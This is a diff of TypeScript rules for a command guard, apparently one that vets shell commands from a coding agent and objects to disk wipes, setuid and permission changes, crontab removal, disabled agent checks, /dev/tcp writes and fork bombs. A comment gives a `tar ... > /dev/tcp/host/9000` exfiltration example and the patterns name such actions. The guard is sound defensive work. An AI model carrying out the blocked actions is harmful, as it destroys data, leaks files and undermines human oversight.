@@ -1,35 +1,32 @@
 import { isHere } from '../../../programs/parts/address';
-import type { Effect } from '../../../programs/effect';
+import type { EffectOf } from '../../../programs/effect';
 import { effectsOf, isDisk } from '../../../shell/effects';
 import type { Invocation } from '../../../shell/invocation';
 import { foundIn, plainWord } from '../../../shell/reader/words';
 import { shellNames } from '../../../programs/shells';
 import { programName, resolvePath, within } from '../../../shell/paths';
 import { isSystem, reachOf } from './targets';
-import { effectRule, objection, written, type EffectRule, type LineRule, type Objection, type View } from './rule';
+import { effectRule, lineRule, objection, type EffectRule, type Objection, type View } from './rule';
 
 const diskWay = 'Work on an image file inside the project, or ask the person to do this to the device.';
 
 /** Memory that is set up as a disk holds nothing that was there before. */
 const isMemory = (text: string): boolean => /^\/dev\/z?ram\d|ram:\/\//.test(text);
 
-type Machine = Extract<Effect, { kind: 'machine' }>;
+type Machine = EffectOf<'machine'>;
 
 /** A disk or volume that the command names. One in a variable is left to `strict`. */
 function destroying({ on }: Machine, invocation: Invocation, view: View): Objection | undefined {
   if (on !== undefined && (isMemory(on.text) || (on.value === undefined && !view.strict))) return undefined;
-  return objection(written(invocation), 'It destroys everything on a disk or volume.', diskWay);
+  return objection(invocation, 'It destroys everything on a disk or volume.', diskWay);
 }
 
-function writingDevice(
-  { path, cwd }: Extract<Effect, { kind: 'write' }>,
-  invocation: Invocation,
-): Objection | undefined {
+function writingDevice({ path, cwd }: EffectOf<'write'>, invocation: Invocation): Objection | undefined {
   if (invocation.elsewhere && invocation.inNewContainer) return undefined;
   const place = (path.value === undefined ? undefined : resolvePath(cwd, path.value)) ?? path.text;
-  if (isDisk(place)) return objection(written(invocation), 'It overwrites a disk.', diskWay);
+  if (isDisk(place)) return objection(invocation, 'It overwrites a disk.', diskWay);
   return place === '/proc/sysrq-trigger'
-    ? objection(written(invocation), 'It makes the kernel halt or crash the machine.', haltWay)
+    ? objection(invocation, 'It makes the kernel halt or crash the machine.', haltWay)
     : undefined;
 }
 
@@ -53,20 +50,17 @@ const lendsRights = /^0*[4-7][0-7]{3}$|(?:^|,)(?:[go]*[ua][ugoa]*)?[+=][rwxXt]*s
 /** Programs that run any command. */
 const runsAnything = /^(?:(?:python|perl|ruby|php|lua|node)[\d.]*|vim?|env|find|[gmn]?awk|busybox|tclsh|expect)$/;
 
-function lendingRights(
-  { path, mode = '' }: Extract<Effect, { kind: 'attributes' }>,
-  invocation: Invocation,
-): Objection | undefined {
+function lendingRights({ path, mode = '' }: EffectOf<'attributes'>, invocation: Invocation): Objection | undefined {
   if (invocation.elsewhere || !lendsRights.test(mode)) return undefined;
   return objection(
-    written(invocation),
+    invocation,
     `It lets every user run ${path.raw} with the rights of its owner.`,
     'Run the one command that needs the rights with `sudo`, or ask the person.',
   );
 }
 
 function changingPermissions(
-  effect: Extract<Effect, { kind: 'attributes' }>,
+  effect: EffectOf<'attributes'>,
   invocation: Invocation,
   view: View,
 ): Objection | undefined {
@@ -75,7 +69,7 @@ function changingPermissions(
   if (view.temporary.some((directory) => invocation.name.text.startsWith(`${directory}/`))) return undefined;
   if (invocation.elsewhere)
     return recursive && path.value === '/' && !invocation.inNewContainer
-      ? objection(written(invocation), opensSystem, permissionWay)
+      ? objection(invocation, opensSystem, permissionWay)
       : undefined;
   const name = programName(path.text);
   if (shellNames.has(name) || runsAnything.test(name)) {
@@ -86,7 +80,7 @@ function changingPermissions(
   const lets = opens || (writable.test(mode) && configured.test(path.text));
   if (foundIn(path) !== undefined && reachOf(path, effect, view) === 'system')
     return objection(
-      written(invocation),
+      invocation,
       'It changes the permissions of everything that find reaches in a system directory or a whole home.',
       permissionWay,
     );
@@ -95,9 +89,9 @@ function changingPermissions(
   // What is there was installed by the person, who may own it: package managers ask for that.
   if (sets === 'owner' && place !== undefined && within(place, '/usr/local')) return undefined;
   if (place !== undefined && isSystem(place, view.home) && !view.roots.includes(place) && (recursive || lets)) {
-    return objection(written(invocation), opensSystem, permissionWay);
+    return objection(invocation, opensSystem, permissionWay);
   }
-  return view.strict && opens ? objection(written(invocation), 'It lets every user write.', permissionWay) : undefined;
+  return view.strict && opens ? objection(invocation, 'It lets every user write.', permissionWay) : undefined;
 }
 
 /** A rule about one thing that can be done to the machine. */
@@ -111,25 +105,25 @@ export const machineRules: readonly EffectRule[] = [
   machineRule('format-disk', ['destroy-disk'], destroying),
   machineRule('destroy-volume', ['destroy-volume'], destroying),
   machineRule('halt-machine', ['halt'], ({ why }, invocation) =>
-    objection(written(invocation), `It ${why ?? 'stops or restarts the machine'}.`, haltWay),
+    objection(invocation, `It ${why ?? 'stops or restarts the machine'}.`, haltWay),
   ),
   machineRule('drop-schedule', ['drop-schedule'], (_effect, invocation) =>
     objection(
-      written(invocation),
+      invocation,
       'It removes the whole crontab, without a copy.',
       'Print the table with `crontab -l`, and let the person remove the right lines.',
     ),
   ),
   machineRule('delete-settings', ['drop-settings'], ({ why }, invocation) =>
     objection(
-      written(invocation),
+      invocation,
       `It ${why ?? 'deletes settings of the machine'}; there is no copy.`,
       'Export the key with `reg export` first, and let the person delete it.',
     ),
   ),
   machineRule('unguarded-agent', ['unguarded-agent'], (_effect, invocation) =>
     objection(
-      written(invocation),
+      invocation,
       'It starts a coding agent with its permission checks or its hooks off.',
       'Start it with both on, or ask the person to start it.',
     ),
@@ -138,7 +132,7 @@ export const machineRules: readonly EffectRule[] = [
     invocation.elsewhere
       ? undefined
       : objection(
-          written(invocation),
+          invocation,
           'It removes a package that the system needs to boot or to be repaired.',
           'Remove only the package you mean, or ask the person to do it.',
         ),
@@ -152,68 +146,60 @@ const accountWay = 'Tell the person what is needed, and why.';
 /** Rules that ask the person. */
 export const machineQuestions: readonly EffectRule[] = [
   machineRule('change-accounts', ['users'], ({ why }, invocation) =>
-    invocation.elsewhere ? undefined : objection(written(invocation), `It ${why ?? 'changes accounts'}.`, accountWay),
+    invocation.elsewhere ? undefined : objection(invocation, `It ${why ?? 'changes accounts'}.`, accountWay),
   ),
   effectRule('change-accounts', 'attributes', lendingRights),
   machineRule('loosen-protection', ['protection'], ({ why }, invocation) =>
     invocation.elsewhere
       ? undefined
       : objection(
-          written(invocation),
+          invocation,
           `It ${why ?? 'switches off what guards the machine'}.`,
           'Open the one port or path that is needed, or tell the person why.',
         ),
   ),
   machineRule('run-later', ['schedule'], ({ why }, invocation) =>
-    invocation.elsewhere ? undefined : objection(written(invocation), `It ${why ?? 'runs later'}.`, accountWay),
+    invocation.elsewhere ? undefined : objection(invocation, `It ${why ?? 'runs later'}.`, accountWay),
   ),
 ];
 
 /** `tar c . > /dev/tcp/host/9000`: the shell itself connects. A line that only tries the port sends nothing. */
-export const socketQuestion: LineRule = {
-  id: 'write-socket',
-  level: 'standard',
-  checkLine(reading) {
-    const used = reading.invocations.some(
-      ({ redirects, args }) =>
-        redirects.some(({ operator, target }) => operator === '>&' && !/^[12]?-?$/.test(target?.text ?? '')) ||
-        args.some(({ text }) => /\/fd\/|\bFD:/.test(text)),
-    );
-    for (const { effect, invocation } of effectsOf(reading)) {
-      if (effect.kind !== 'write') continue;
-      const host = /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(effect.path.text)?.[1];
-      if (host === undefined || isHere(plainWord(host))) continue;
-      const { program } = invocation;
-      const opens = program === 'exec' || program === '' || program === ':' || program === 'true';
-      const probes = effect.content?.kind === 'text' && effect.content.text.trim() === '';
-      if (opens ? used : !probes)
-        return objection(
-          written(invocation),
-          `It connects to ${host} and writes to it.`,
-          'Use a program whose request can be read, such as `curl`.',
-        );
-    }
-    return undefined;
-  },
-};
-
-export const repetitionRule: LineRule = {
-  id: 'fork-bomb',
-  level: 'standard',
-  checkLine(reading) {
-    for (const found of reading.repetitions) {
-      const bomb = found.kind === 'recursion' ? found.unconditional : found.spawns && !found.waits && !found.leaves;
-      if (!bomb) continue;
-      const part =
-        found.kind === 'recursion'
-          ? `${found.functions.join(' → ')} → ${found.functions[0] ?? ''}`
-          : 'an endless loop that starts background jobs';
+export const socketQuestion = lineRule('write-socket', (reading) => {
+  const used = reading.invocations.some(
+    ({ redirects, args }) =>
+      redirects.some(({ operator, target }) => operator === '>&' && !/^[12]?-?$/.test(target?.text ?? '')) ||
+      args.some(({ text }) => /\/fd\/|\bFD:/.test(text)),
+  );
+  for (const { effect, invocation } of effectsOf(reading)) {
+    if (effect.kind !== 'write') continue;
+    const host = /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(effect.path.text)?.[1];
+    if (host === undefined || isHere(plainWord(host))) continue;
+    const { program } = invocation;
+    const opens = program === 'exec' || program === '' || program === ':' || program === 'true';
+    const probes = effect.content?.kind === 'text' && effect.content.text.trim() === '';
+    if (opens ? used : !probes)
       return objection(
-        part,
-        'It starts processes endlessly until the machine stops responding.',
-        'Make the loop end, and `wait` for what it starts.',
+        invocation,
+        `It connects to ${host} and writes to it.`,
+        'Use a program whose request can be read, such as `curl`.',
       );
-    }
-    return undefined;
-  },
-};
+  }
+  return undefined;
+});
+
+export const repetitionRule = lineRule('fork-bomb', (reading) => {
+  for (const found of reading.repetitions) {
+    const bomb = found.kind === 'recursion' ? found.unconditional : found.spawns && !found.waits && !found.leaves;
+    if (!bomb) continue;
+    const part =
+      found.kind === 'recursion'
+        ? `${found.functions.join(' → ')} → ${found.functions[0] ?? ''}`
+        : 'an endless loop that starts background jobs';
+    return objection(
+      part,
+      'It starts processes endlessly until the machine stops responding.',
+      'Make the loop end, and `wait` for what it starts.',
+    );
+  }
+  return undefined;
+});
